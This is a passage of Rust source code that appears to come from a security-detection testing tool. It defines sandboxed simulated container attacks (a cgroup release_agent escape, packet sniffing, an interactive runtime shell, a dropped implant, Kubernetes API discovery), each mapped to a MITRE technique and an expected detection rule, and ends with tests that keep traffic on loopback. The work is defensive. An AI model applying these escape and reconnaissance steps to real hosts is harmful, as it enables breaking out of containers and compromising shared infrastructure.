    // hierarchy's release_agent is shared by the whole host.
    Attack {
        name: "container-release-agent",
        tactic: "container-escape",
        technique: "T1611",
        expected_rules: &["Cgroup Release Agent Written"],
        script: in_container!(
            "true",
            r#"mkdir -p "${SANDBOX:?}/cgroup/x"
echo 1 > "${SANDBOX:?}/cgroup/x/notify_on_release"
echo "${SANDBOX:?}/payload.sh" > "${SANDBOX:?}/cgroup/release_agent"
"#
        ),
        cleanup: container::CLEANUP,
    },
    // A packet socket for protocol 0 receives nothing until bound to a protocol; it is closed
    // at once.
    Attack {
        name: "container-packet-sniffer",
        tactic: "credential-access",
        technique: "T1040",
        expected_rules: &["Packet Socket Opened In Container"],
        script: in_container!(
            "false",
            r#""$PYTHON" -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()'
"#
        ),
        cleanup: container::CLEANUP,
    },
    // `docker exec -it`: a shell with a terminal whose parent is the runtime. A copy of the
    // shell named runc plays the runtime, a pseudo-terminal from Python the console.
    Attack {
        name: "container-interactive-shell",
        tactic: "execution",
        technique: "T1609",
        expected_rules: &["Interactive Shell In Container"],
        script: in_container!(
            "false",
            r#"cp /bin/sh "${SANDBOX:?}/runc"
"$PYTHON" -c 'import os, sys
pid, console = os.forkpty()
if pid == 0:
    os.execv(sys.argv[1], [sys.argv[1], "-c", "sh -c \"sleep 0.2; true\"; true"])
try:
    while os.read(console, 4096):
        pass
except OSError:
    pass
os.waitpid(pid, 0)' "${SANDBOX:?}/runc"
"#
        ),
        cleanup: container::CLEANUP,
    },
    // A tool dropped into a running container and run. The container's root is an overlay
    // whose lower layer is the host's root and whose upper layer is in the sandbox, made the
    // root of a mount namespace of the script's own with pivot_root (so the process's
    // executable path is /tmp/.implant, as in a real container); the host's files never
    // change. The implant is sleep, so it is still running when the agent inspects it.
    Attack {
        name: "container-drift-binary",
        tactic: "command-and-control",
        technique: "T1105",
        expected_rules: &["Binary Not From Image Executed In Container"],
        script: concat!(
            container_prologue!("false"),
            r#"mkdir -p "${SANDBOX:?}/upper" "${SANDBOX:?}/work" "${SANDBOX:?}/rootfs"
exec unshare --mount --propagation private /bin/sh -ec 'mount -t overlay vigil-chaos -o "lowerdir=/,upperdir=${SANDBOX:?}/upper,workdir=${SANDBOX:?}/work" "${SANDBOX:?}/rootfs"
mkdir "${SANDBOX:?}/rootfs/.host"
"#,
            join_container!(),
            r#"cd "${SANDBOX:?}/rootfs"
pivot_root . .host
cd /
cp /bin/sleep /tmp/.implant
exec /tmp/.implant 0.5'
"#
        ),
        cleanup: container::CLEANUP,
    },
    // A compromised pod enumerating the cluster. The API service address lives on the loopback
    // interface of a network namespace of the script's own, which has no other interface: the
    // connection cannot leave it.
    Attack {
        name: "container-kubernetes-api",
        tactic: "discovery",
        technique: "T1613",
        expected_rules: &["Kubernetes API Contacted From Container"],
        script: concat!(
            container_prologue!("false"),
            r#"cat > "${SANDBOX:?}/api-server.py" <<'VIGIL_API_SERVER'
import os, socket, sys
address, ready = sys.argv[1], sys.argv[2]
server = socket.socket()
server.bind((address, 443))
server.listen(1)
open(ready, "w").close()
server.settimeout(5)
try:
    conn, _ = server.accept()
    conn.close()
except OSError:
    pass
VIGIL_API_SERVER
cat > "${SANDBOX:?}/api-client.py" <<'VIGIL_API_CLIENT'
import socket, sys
socket.create_connection((sys.argv[1], 443), 3).close()
VIGIL_API_CLIENT
exec unshare --net /bin/sh -ec 'ip link set lo up
ip addr add 10.96.0.1/32 dev lo
"$PYTHON" "${SANDBOX:?}/api-server.py" 10.96.0.1 "${SANDBOX:?}/api-ready" &
i=0
while [ ! -e "${SANDBOX:?}/api-ready" ] && [ "$i" -lt 500 ]; do sleep 0.01; i=$((i + 1)); done
"#,
            join_container!(),
            r#""$PYTHON" "${SANDBOX:?}/api-client.py" 10.96.0.1
wait'
"#
        ),
        cleanup: container::CLEANUP,
    },
];

#[cfg(test)]
mod tests {
    use std::{collections::HashSet, path::PathBuf};

    use super::{ATTACKS, container};
    use crate::rules::engine::{Ruleset, Selection};

    fn is_kebab_case(text: &str) -> bool {
        !text.is_empty()
            && !text.starts_with('-')
            && !text.ends_with('-')
            && !text.contains("--")
            && text
                .chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
    }

    #[test]
    fn names_are_unique_kebab_case() {
        let mut seen = HashSet::new();
        for attack in ATTACKS {
            assert!(is_kebab_case(attack.name), "{}", attack.name);
            assert!(
                is_kebab_case(attack.tactic),
                "{}: {}",
                attack.name,
                attack.tactic
            );
            assert!(seen.insert(attack.name), "duplicate name {}", attack.name);
        }
    }

    #[test]
    fn catalog_is_broad() {
        assert!(ATTACKS.len() >= 25, "{} attacks", ATTACKS.len());
        let tactics: HashSet<&str> = ATTACKS.iter().map(|a| a.tactic).collect();
        assert!(tactics.len() >= 8, "{tactics:?}");
    }

    #[test]
    fn techniques_are_attack_ids() {
        let id = regex::Regex::new(r"^T\d{4}(\.\d{3})?$").expect("pattern");
        for attack in ATTACKS {
            assert!(
                id.is_match(attack.technique),
                "{}: {}",
                attack.name,
                attack.technique
            );
        }
    }

    #[test]
    fn expected_rules_are_bundled_rules() {
        let dir = PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../rules"));
        let (ruleset, report) = Ruleset::load(&[dir], &Selection::default());
        assert!(report.ok(), "{:?}", report.errors);
        let bundled: HashSet<&str> = ruleset.rule_names().collect();
        for attack in ATTACKS {
            assert!(!attack.expected_rules.is_empty(), "{}", attack.name);
            for rule in attack.expected_rules {
                assert!(
                    bundled.contains(rule),
                    "{}: no bundled rule {rule:?}",
                    attack.name
                );
            }
        }
    }

    #[test]
    fn network_traffic_stays_on_loopback() {
        let ipv4 = regex::Regex::new(r"\b\d{1,3}(\.\d{1,3}){3}\b").expect("pattern");
        let url = regex::Regex::new(r"[a-z]+://\[?([^/:\]\s]+)").expect("pattern");
        let loopback = ["127.0.0.1", "localhost", "::1"];
        // Other addresses only on the loopback interface of a network namespace of the
        // script's own (`unshare --net` has nothing but lo).
        let private_lo = regex::Regex::new(r"ip addr add ([0-9.]+)/32 dev lo\b").expect("pattern");
        for attack in ATTACKS {
            for text in [attack.script, attack.cleanup] {
                let private: Vec<&str> = if text.contains("unshare --net") {
                    private_lo
                        .captures_iter(text)
                        .filter_map(|c| c.get(1))
                        .map(|m| m.as_str())
                        .collect()
                } else {
                    Vec::new()
                };
                for address in ipv4.find_iter(text) {
                    assert!(
                        address.as_str() == "127.0.0.1" || private.contains(&address.as_str()),
                        "{}: {}",
                        attack.name,
                        address.as_str()
                    );
                }
                for host in url.captures_iter(text) {
                    assert!(
                        loopback.contains(&&host[1]),
                        "{}: {}",
                        attack.name,
                        &host[1]
                    );
                }
                // IPv6 literals other than ::1: "::" followed by an address part or "]" ([::]).
                for (at, _) in text.match_indices("::") {
                    let rest = &text[at + 2..];
                    let loopback_v6 = rest.starts_with('1')
                        && !rest[1..].starts_with(|c: char| c.is_ascii_hexdigit() || c == ':');
                    let address = rest.starts_with(|c: char| c.is_ascii_hexdigit() || c == ']');
                    assert!(loopback_v6 || !address, "{}: IPv6 literal", attack.name);
                }
                // user@host arguments of the network tools.
                for word in text.split_whitespace() {
                    if let Some((_, host)) = word.split_once('@') {
                        let host = host.trim_matches(|c| c == '"' || c == '\'');
                        assert!(loopback.contains(&host), "{}: {word}", attack.name);
                    }
                }
            }
        }
    }

    #[test]
    fn container_scenarios_clean_up_and_guard_their_paths() {
        let bare = regex::Regex::new(
            r"\$(SANDBOX|CONTAINER_CGROUP|CONTAINER_STATE|CGROUP2|scope|state)\b|\$\{(SANDBOX|CONTAINER_CGROUP|CONTAINER_STATE|CGROUP2|scope|state)\}",
        )
        .expect("pattern");
        let containers: Vec<_> = ATTACKS
            .iter()
            .filter(|a| a.script.contains("vigil-chaos.slice"))
            .collect();
        assert!(
            containers.len() >= 6,
            "{} container scenarios",
            containers.len()
        );
        let escapes = containers
            .iter()
            .filter(|a| a.tactic == "container-escape")
            .count();
        assert!(escapes >= 6, "{escapes} container escapes");
        for attack in containers {
            assert_eq!(attack.cleanup, container::CLEANUP, "{}", attack.name);
            assert!(attack.script.contains("/cgroup.procs"), "{}", attack.name);
            // A directory variable that is unset must abort the script, never become "/".
            for text in [attack.script, attack.cleanup] {
                assert!(
                    bare.find(text).is_none(),
                    "{}: unguarded {:?}",
                    attack.name,
                    bare.find(text).map(|m| m.as_str())
                );
            }
        }
    }

    #[test]
    fn scripts_are_valid_shell() {
        for attack in ATTACKS {
            for text in [attack.script, attack.cleanup] {
                let status = std::process::Command::new("/bin/sh")
                    .args(["-n", "-c", text])
                    .status()
                    .expect("run /bin/sh -n");
                assert!(status.success(), "{}: not valid sh", attack.name);
            }
        }
    }
}
